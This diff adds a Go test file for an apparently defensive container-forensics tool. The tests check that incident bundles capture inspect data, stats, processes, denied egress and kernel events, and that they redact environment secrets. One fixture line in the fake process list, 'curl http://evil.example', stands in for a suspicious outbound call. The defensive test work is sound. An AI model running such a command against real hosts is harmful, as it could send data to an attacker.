@@ -0,0 +1,164 @@
+package xray
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/docker/docker/client"
+	"github.com/mackeh/AegisClaw/internal/audit"
+)
+
+const captureID = "c0ffee0123456789abcdef"
+
+// captureDaemon is a fake Docker API serving inspect, top and stats for one
+// container that started startedAgo before the test.
+func captureDaemon(t *testing.T, startedAgo time.Duration) *Inspector {
+	t.Helper()
+	started := time.Now().Add(-startedAgo).UTC().Format(time.RFC3339Nano)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		p := r.URL.Path
+		switch {
+		case strings.HasSuffix(p, "/containers/"+captureID+"/json"):
+			io.WriteString(w, `{"Id":"`+captureID+`","Name":"/skill-run","State":{"Status":"running","StartedAt":"`+started+`"},`+
+				`"Config":{"Image":"alpine:3.20","Env":["PATH=/usr/bin","API_TOKEN=tok-4f1c9a7e"]}}`)
+		case strings.HasSuffix(p, "/containers/"+captureID+"/top"):
+			io.WriteString(w, `{"Titles":["UID","PID","CMD"],"Processes":[["1000","42","curl http://evil.example"]]}`)
+		case strings.HasSuffix(p, "/containers/"+captureID+"/stats"):
+			io.WriteString(w, `{"pids_stats":{"current":3},"memory_stats":{"usage":52428800,"limit":536870912},`+
+				`"networks":{"eth0":{"rx_bytes":100,"tx_bytes":9000}}}`)
+		default:
+			w.WriteHeader(http.StatusNotFound)
+			io.WriteString(w, `{"message":"no such container"}`)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	cli, err := client.NewClientWithOpts(client.WithHost("tcp://"+srv.Listener.Addr().String()), client.WithVersion("1.45"), client.WithHTTPClient(srv.Client()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &Inspector{cli: cli}
+}
+
+// writeAuditLog records an egress decision, an eBPF event and an unrelated
+// entry, all just now.
+func writeAuditLog(t *testing.T) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "audit.log")
+	logger, err := audit.NewLogger(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer logger.Close()
+	if err := logger.Log("network.egress", nil, "deny", "proxy", map[string]any{"host": "evil.example"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := logger.LogKernelEvent("net_connect", "curl", 42, map[string]any{"path": ""}); err != nil {
+		t.Fatal(err)
+	}
+	if err := logger.Log("skill.exec", nil, "allow", "other-skill", nil); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestCapture_Sections(t *testing.T) {
+	insp := captureDaemon(t, time.Minute)
+	b, err := insp.Capture(context.Background(), captureID, CaptureOptions{
+		Samples:  2,
+		Interval: time.Millisecond,
+		AuditLog: writeAuditLog(t),
+	})
+	if err != nil {
+		t.Fatalf("Capture: %v", err)
+	}
+
+	if b.ContainerID != captureID || b.Inspect == nil || b.Inspect.State.Status != "running" {
+		t.Errorf("inspect section = %+v", b.Inspect)
+	}
+	if len(b.Stats) != 2 || b.Stats[0].Resources.PIDs != 3 || len(b.Stats[0].Network) != 1 {
+		t.Errorf("stats section = %+v, want 2 samples", b.Stats)
+	}
+	if len(b.Processes) != 1 || b.Processes[0].PID != "42" {
+		t.Errorf("processes section = %+v", b.Processes)
+	}
+	if len(b.Egress) != 1 || b.Egress[0].Details["host"] != "evil.example" {
+		t.Errorf("egress section = %+v", b.Egress)
+	}
+	if len(b.KernelEvents) != 1 || b.KernelEvents[0].Action != "kernel.net_connect" {
+		t.Errorf("kernel events section = %+v", b.KernelEvents)
+	}
+	if b.Errors != nil {
+		t.Errorf("unexpected errors: %v", b.Errors)
+	}
+
+	data, _ := json.Marshal(b)
+	if strings.Contains(string(data), "tok-4f1c9a7e") {
+		t.Error("bundle contains an environment secret")
+	}
+	if !strings.Contains(string(data), "API_TOKEN=[REDACTED]") {
+		t.Error("bundle should keep environment variable names")
+	}
+}
+
+func TestCapture_WindowStartsAtContainerStart(t *testing.T) {
+	// The audit entries predate a container started in the future, so
+	// none of them belong in its window.
+	insp := captureDaemon(t, -time.Hour)
+	b, err := insp.Capture(context.Background(), captureID, CaptureOptions{Samples: 1, AuditLog: writeAuditLog(t)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(b.Egress)+len(b.KernelEvents) != 0 {
+		t.Errorf("entries before the container started were captured: %+v %+v", b.Egress, b.KernelEvents)
+	}
+}
+
+func TestCapture_PartialAndMissing(t *testing.T) {
+	insp := captureDaemon(t, time.Minute)
+	b, err := insp.Capture(context.Background(), captureID, CaptureOptions{
+		Samples:  1,
+		AuditLog: filepath.Join(t.TempDir(), "missing", "audit.log"),
+	})
+	if err != nil {
+		t.Fatalf("a missing audit log should not fail the capture: %v", err)
+	}
+	if len(b.Egress)+len(b.KernelEvents) != 0 || b.Errors != nil {
+		t.Errorf("missing audit log: egress=%v kernel=%v errors=%v", b.Egress, b.KernelEvents, b.Errors)
+	}
+
+	if _, err := insp.Capture(context.Background(), "nope", CaptureOptions{}); err == nil {
+		t.Error("expected an error for an unknown container")
+	}
+}
+
+func TestWriteBundle(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "incidents")
+	b := &Bundle{CapturedAt: time.Date(2026, 10, 16, 9, 30, 0, 0, time.UTC), ContainerID: captureID}
+	path, err := WriteBundle(dir, b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if filepath.Base(path) != "20261016T093000Z-c0ffee012345.json" {
+		t.Errorf("bundle written to %s", path)
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Mode().Perm() != 0600 {
+		t.Errorf("bundle mode = %v, want 0600", info.Mode().Perm())
+	}
+	var got Bundle
+	data, _ := os.ReadFile(path)
+	if err := json.Unmarshal(data, &got); err != nil || got.ContainerID != captureID {
+		t.Errorf("bundle did not round-trip: %v %+v", err, got)
+	}
+}